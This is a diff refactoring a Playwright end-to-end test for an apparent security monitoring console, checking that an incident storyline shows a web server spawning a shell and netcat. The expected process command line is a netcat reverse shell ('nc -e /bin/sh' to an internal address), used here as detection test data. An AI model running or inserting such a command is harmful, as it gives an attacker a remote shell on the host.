@@ -12,7 +12,7 @@ import pytest
 from stockade.model.entities import Container
 from stockade.model.events import Ancestor, Event, FdInfo
 from tests.support.agent_client import make_alert, make_event
-from tests.support.browser import CHROMIUM, CHROMIUM_ARGS, navigate
+from tests.support.browser import logged_in_console
 from tests.support.platform_runner import PlatformRunner
 
 MIN = 60 * 1_000_000_000
@@ -36,7 +36,7 @@ def step(seq: int, ts: int, name: str, pid: int, ancestors: tuple[Ancestor, ...]
 def test_incident_page_draws_the_storyline_and_shows_a_process(
     running: PlatformRunner, tmp_path: Path, artifacts_dir: Path
 ) -> None:
-    from playwright.sync_api import ConsoleMessage, Error, expect, sync_playwright
+    from playwright.sync_api import expect
 
     agent = running.enroll(tmp_path, hostname="ui-inc-node", host_id="ui-inc")
     t0 = time.time_ns() - 5 * MIN
@@ -53,78 +53,53 @@ def test_incident_page_draws_the_storyline_and_shows_a_process(
     with contextlib.closing(running.login()) as admin:
         [incident] = admin.get("/api/v1/incidents", params={"host": "ui-inc"}).json()["items"]
     base = running.platform.console_url
-    problems: list[str] = []
+    with logged_in_console(base, running.admin_password, width=1500) as session:
+        page = session.page
+        page.click("#nav-incidents")
+        row = page.locator(f'[data-testid=incident-row][data-incident-id="{incident["id"]}"]')
+        expect(row.get_by_test_id("incident-title")).to_have_text("Shell spawned by a web server")
+        expect(row.get_by_test_id("incident-severity")).to_have_text("Critical")
+        expect(row.get_by_test_id("incident-status")).to_have_text("new")
+        expect(row.get_by_test_id("incident-where")).to_have_text("storefront on ui-inc-node")
+        expect(row.get_by_test_id("incident-alerts")).to_have_text("2")
+        page.screenshot(path=str(artifacts_dir / "platform-incidents.png"), full_page=True)
 
-    with sync_playwright() as p:
-        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
-        try:
-            page = browser.new_page(
-                viewport={"width": 1500, "height": 1000}, ignore_https_errors=True
-            )
+        row.get_by_test_id("incident-title").click()
+        page.wait_for_url(f"{base}/incident.html?id={incident['id']}")
+        nodes = page.locator("[data-testid=storyline] [data-testid=story-node]")
+        expect(nodes).to_have_count(4)  # the container, httpd, sh, nc; not ls
+        names = [nodes.nth(i).get_attribute("data-name") for i in range(4)]
+        assert names == ["container storefront", "httpd", "sh", "nc"]
+        offending = page.locator("[data-testid=story-node].offending")
+        expect(offending).to_have_count(2)
+        nc_node = page.locator('[data-testid=story-node][data-name="nc"]')
+        nc_node.click()
+        details = page.get_by_test_id("story-details")
+        expect(details.get_by_test_id("story-process-name")).to_have_text("nc")
+        expect(details.get_by_test_id("story-process-cmdline")).to_have_text(
+            "nc -e /bin/sh 10.88.0.44 4444"
+        )
+        expect(details.get_by_test_id("story-process-rules")).to_contain_text(
+            "Netcat remote code execution"
+        )
+        kinds = details.get_by_test_id("story-step")
+        expect(kinds).to_have_count(3)
+        assert [kinds.nth(i).get_attribute("data-kind") for i in range(3)] == [
+            "exec",
+            "alert",
+            "connect",
+        ]
+        details.locator("summary").first.click()
+        expect(details.get_by_test_id("story-event").first).to_contain_text('"pid": 8003')
+        page.screenshot(path=str(artifacts_dir / "platform-incident.png"), full_page=True)
 
-            def console_error(message: ConsoleMessage) -> None:
-                if message.type == "error":
-                    problems.append(f"{message.text} {message.location.get('url', '')}")
-
-            def page_error(error: Error) -> None:
-                problems.append(str(error))
-
-            page.on("console", console_error)
-            page.on("pageerror", page_error)
-            navigate(page, f"{base}/login.html")
-            page.fill("#username", "admin")
-            page.fill("#password", running.admin_password)
-            page.click("#login-button")
-            page.wait_for_url(f"{base}/")
-            page.click("#nav-incidents")
-            row = page.locator(f'[data-testid=incident-row][data-incident-id="{incident["id"]}"]')
-            expect(row.get_by_test_id("incident-title")).to_have_text(
-                "Shell spawned by a web server"
-            )
-            expect(row.get_by_test_id("incident-severity")).to_have_text("Critical")
-            expect(row.get_by_test_id("incident-status")).to_have_text("new")
-            expect(row.get_by_test_id("incident-where")).to_have_text("storefront on ui-inc-node")
-            expect(row.get_by_test_id("incident-alerts")).to_have_text("2")
-            page.screenshot(path=str(artifacts_dir / "platform-incidents.png"), full_page=True)
-
-            row.get_by_test_id("incident-title").click()
-            page.wait_for_url(f"{base}/incident.html?id={incident['id']}")
-            nodes = page.locator("[data-testid=storyline] [data-testid=story-node]")
-            expect(nodes).to_have_count(4)  # the container, httpd, sh, nc; not ls
-            names = [nodes.nth(i).get_attribute("data-name") for i in range(4)]
-            assert names == ["container storefront", "httpd", "sh", "nc"]
-            offending = page.locator("[data-testid=story-node].offending")
-            expect(offending).to_have_count(2)
-            nc_node = page.locator('[data-testid=story-node][data-name="nc"]')
-            nc_node.click()
-            details = page.get_by_test_id("story-details")
-            expect(details.get_by_test_id("story-process-name")).to_have_text("nc")
-            expect(details.get_by_test_id("story-process-cmdline")).to_have_text(
-                "nc -e /bin/sh 10.88.0.44 4444"
-            )
-            expect(details.get_by_test_id("story-process-rules")).to_contain_text(
-                "Netcat remote code execution"
-            )
-            kinds = details.get_by_test_id("story-step")
-            expect(kinds).to_have_count(3)
-            assert [kinds.nth(i).get_attribute("data-kind") for i in range(3)] == [
-                "exec",
-                "alert",
-                "connect",
-            ]
-            details.locator("summary").first.click()
-            expect(details.get_by_test_id("story-event").first).to_contain_text('"pid": 8003')
-            page.screenshot(path=str(artifacts_dir / "platform-incident.png"), full_page=True)
-
-            page.select_option("#change-status", "investigating")
-            page.fill("#change-note", "the storefront shell came from httpd")
-            page.click("#change-save")
-            expect(page.get_by_test_id("incident-status")).to_have_text("investigating")
-            notes = page.locator('[data-testid=timeline-row][data-kind="note"]')
-            expect(notes).to_contain_text("the storefront shell came from httpd")
-        finally:
-            browser.close()
-    assert problems == []
+        page.select_option("#change-status", "investigating")
+        page.fill("#change-note", "the storefront shell came from httpd")
+        page.click("#change-save")
+        expect(page.get_by_test_id("incident-status")).to_have_text("investigating")
+        notes = page.locator('[data-testid=timeline-row][data-kind="note"]')
+        expect(notes).to_contain_text("the storefront shell came from httpd")
+    assert session.problems == []
     with contextlib.closing(running.login()) as admin:
         stored = admin.get(f"/api/v1/incidents/{incident['id']}").json()
     assert (stored["status"], stored["timeline"][-1]["username"]) == ("investigating", "admin")
